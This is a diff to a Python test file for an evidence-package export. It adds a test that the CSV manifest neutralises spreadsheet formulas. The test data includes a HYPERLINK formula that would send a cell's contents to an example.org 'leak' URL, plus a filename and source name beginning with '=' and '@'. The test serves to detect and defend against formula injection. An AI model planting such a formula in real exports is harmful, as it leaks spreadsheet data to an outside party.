@@ -17,6 +17,8 @@ from pypdf import PdfReader
 
 from evidence.files import path_of
 from evidence.models import CustodyEvent, EvidenceItem
+from tests import factories
+from tests.dossiers.conftest import add_file
 
 
 def fetch_package(client, case, tmp_path, name="package.zip"):
@@ -90,6 +92,26 @@ def test_the_package_holds_each_file_as_its_manifest_says(package, filed_case, r
     exported = CustodyEvent.objects.filter(item__case=filed_case, action="exported")
     assert sorted(exported.values_list("item", flat=True)) == sorted(items)
     assert {event.actor for event in exported} == {reviewer}
+
+
+def test_the_csv_manifest_runs_no_formula_in_a_spreadsheet(client, monitor, tmp_path):
+    case = factories.CaseFactory(created_by=monitor)
+    add_file(
+        case,
+        monitor,
+        "=1+2.txt",
+        b"Containers left Rajin.",
+        source=factories.SourceFactory(name="@SUM(1+1)"),
+        title='=HYPERLINK("https://example.org/?leak="&B2,"Open source")',
+    )
+    client.force_login(monitor)
+    path = fetch_package(client, case, tmp_path)
+    with zipfile.ZipFile(path) as archive:
+        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
+    [row] = [row for row in rows if row["original_filename"].endswith("=1+2.txt")]
+    assert row["title"] == '\'=HYPERLINK("https://example.org/?leak="&B2,"Open source")'
+    assert (row["source"], row["original_filename"]) == ("'@SUM(1+1)", "'=1+2.txt")
+    assert "OK" in verify(path)
 
 
 def test_verify_package_passes_a_fresh_package_without_any_database(package, django_db_blocker):
